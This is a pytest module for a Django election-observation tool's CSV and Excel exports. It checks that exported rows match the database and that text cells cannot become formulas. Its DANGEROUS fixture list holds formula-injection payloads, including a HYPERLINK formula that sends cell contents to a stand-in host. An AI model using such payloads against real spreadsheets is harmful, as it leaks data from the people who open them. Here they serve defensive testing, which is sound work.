"""Exports read back with the csv module and openpyxl match the database, and a text cell
never reaches a spreadsheet as a formula."""

import csv
import io
import zoneinfo

import openpyxl
import pytest
from django.urls import reverse

from reports.models import Answer, Incident, Visit
from reports.operations.exports import cell_safe, csv_lines, xlsx_file
from reports.services import IncidentData
from tests.factories import PollingStationFactory
from tests.operations_support import build_operations, file_visit
from tests.visits_support import election_day, make_checklist


def download(client, mission, kind: str, format: str) -> list[list]:
    response = client.get(reverse("operations:export", args=[mission.slug, kind, format]))
    assert response.status_code == 200
    assert f"{mission.slug}-{kind}.{format}" in response["Content-Disposition"]
    body = b"".join(response.streaming_content)
    if format == "csv":
        text = body.decode("utf-8")
        assert text.startswith("\ufeff")
        return list(csv.reader(io.StringIO(text[1:])))
    workbook = openpyxl.load_workbook(io.BytesIO(body), read_only=True)
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


def as_text(value) -> str:
    """A cell as the CSV export writes it, to compare both formats with one expectation."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if hasattr(value, "strftime"):
        return value.strftime("%Y-%m-%d %H:%M:%S")
    return str(value)


@pytest.fixture
def mission_with_visits(personas):
    build_operations(personas.mission_a, size=7, observer_user=personas.observer)
    return personas.mission_a


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_visits_come_out_one_row_each_with_a_column_per_question(
    coordinator_client, mission_with_visits, format
):
    mission = mission_with_visits
    rows = download(coordinator_client, mission, "visits", format)
    header, body = rows[0], rows[1:]
    visits = {v.pk: v for v in Visit.objects.filter(mission=mission).select_related("station")}
    assert len(body) == len(visits) == 7
    sealed = header.index("voting.box_sealed")
    assert header.index("voting.info_materials") < sealed
    zone = zoneinfo.ZoneInfo(mission.time_zone)
    for row in body:
        visit = visits[int(row[0])]
        answer = Answer.objects.get(visit=visit, question__code="box_sealed")
        assert row[sealed] == answer.value
        assert as_text(row[3]) == visit.station.number
        local = visit.arrived_at.astimezone(zone).replace(tzinfo=None)
        assert as_text(row[1]) == local.strftime("%Y-%m-%d %H:%M:%S")
        assert as_text(row[13]) == str(visit.incidents.count())
        assert as_text(row[15]) == visit.notes


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_answers_come_out_one_row_each(coordinator_client, mission_with_visits, format):
    mission = mission_with_visits
    rows = download(coordinator_client, mission, "answers", format)
    body = rows[1:]
    answers = Answer.objects.filter(visit__mission=mission)
    assert len(body) == answers.count()
    concerns = [row for row in body if as_text(row[9]) == "yes"]
    assert len(concerns) == answers.filter(is_concern=True).count() == 3
    assert {as_text(row[10]) for row in concerns} == {"Critical"}


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_incidents_come_out_with_their_complaints(coordinator_client, mission_with_visits, format):
    mission = mission_with_visits
    rows = download(coordinator_client, mission, "incidents", format)
    body = rows[1:]
    incidents = {i.pk: i for i in Incident.objects.filter(visit__mission=mission)}
    assert len(body) == len(incidents) == 2
    for row in body:
        incident = incidents[int(row[0])]
        assert int(row[1]) == incident.visit_id
        assert row[8] == incident.description
        assert as_text(row[9]) == "no"


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_coverage_comes_out_one_row_per_station(coordinator_client, mission_with_visits, format):
    mission = mission_with_visits
    rows = download(coordinator_client, mission, "coverage", format)
    body = {as_text(row[0]): row for row in rows[1:]}
    stations = mission.election.stations.all()
    assert len(body) == stations.count() == 14
    visited = set(Visit.objects.filter(mission=mission).values_list("station__number", flat=True))
    ranks = ["minor", "serious", "critical"]
    for station in stations:
        row = body[station.number]
        assert as_text(row[7]) == ("1" if station.number in visited else "0")
        assert row[5] == "Voting"
        severities = [
            a.question.severity
            for a in Answer.objects.filter(visit__station=station, is_concern=True)
        ] + [i.severity for i in Incident.objects.filter(visit__station=station)]
        if station.number not in visited:
            expected = "not visited"
        elif severities:
            expected = f"{max(severities, key=ranks.index)} concern"
        else:
            expected = "clear"
        assert as_text(row[9]) == expected
    assert {as_text(row[9]) for row in body.values()} == {
        "not visited",
        "clear",
        "serious concern",
        "critical concern",
    }


def test_the_admin_index_and_dashboard_offer_the_exports(coordinator_client, personas):
    page = coordinator_client.get(
        reverse("operations:dashboard", args=[personas.mission_a.slug])
    ).content.decode()
    for kind in ("visits", "answers", "incidents", "coverage"):
        for format in ("csv", "xlsx"):
            assert reverse("operations:export", args=["mission-a", kind, format]) in page


def test_an_unknown_export_is_not_found(coordinator_client, personas):
    url = reverse("operations:export", args=[personas.mission_a.slug, "passwords", "csv"])
    assert coordinator_client.get(url).status_code == 404
    url = reverse("operations:export", args=[personas.mission_a.slug, "visits", "ods"])
    assert coordinator_client.get(url).status_code == 404


# ---- Formulas ----

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_cell_starting_like_a_formula_is_neutralised(text):
    assert cell_safe(text) == "'" + text
    assert cell_safe("Calm = no trouble") == "Calm = no trouble"
    assert cell_safe(-5) == -5


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_notes_and_descriptions_never_reach_the_spreadsheet_as_formulas(
    coordinator_client, personas, format
):
    mission = personas.mission_a
    checklist = make_checklist(mission)
    for index, text in enumerate(DANGEROUS):
        file_visit(
            personas.observer_participation,
            PollingStationFactory(election=mission.election),
            checklist,
            user=personas.observer,
            arrived_at=election_day(mission, 9, index),
            notes=text,
            remarks=text.strip(),
            incidents=(IncidentData(category="other", severity="minor", description=text),),
        )
    visits = download(coordinator_client, mission, "visits", format)
    notes = sorted(as_text(row[15]) for row in visits[1:])
    assert notes == sorted("'" + text for text in DANGEROUS)
    incidents = download(coordinator_client, mission, "incidents", format)
    assert sorted(as_text(row[8]) for row in incidents[1:]) == sorted("'" + t for t in DANGEROUS)
    if format == "xlsx":
        body = b"".join(
            coordinator_client.get(
                reverse("operations:export", args=[mission.slug, "visits", "xlsx"])
            ).streaming_content
        )
        sheet = openpyxl.load_workbook(io.BytesIO(body)).active
        kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
        assert "f" not in kinds, "no cell is stored as a formula"


def test_csv_lines_stream_one_row_at_a_time():
    def rows():
        yield ["a", "b"]
        yield ["=1", None]
        raise AssertionError("read past what was asked for")

    lines = csv_lines(rows())
    assert next(lines) == "\ufeff"
    assert next(lines) == "a,b\r\n"
    assert next(lines) == "'=1,\r\n"


def test_an_export_longer_than_a_sheet_goes_on_in_further_sheets():
    rows = iter([["n"], *([i] for i in range(7))])
    workbook = openpyxl.load_workbook(xlsx_file(rows, "answers", max_rows=3), read_only=True)
    sheets = [[row[0] for row in sheet.iter_rows(values_only=True)] for sheet in workbook]
    assert workbook.sheetnames == ["answers", "answers-2", "answers-3", "answers-4"]
    assert sheets == [["n", 0, 1], ["n", 2, 3], ["n", 4, 5], ["n", 6]]
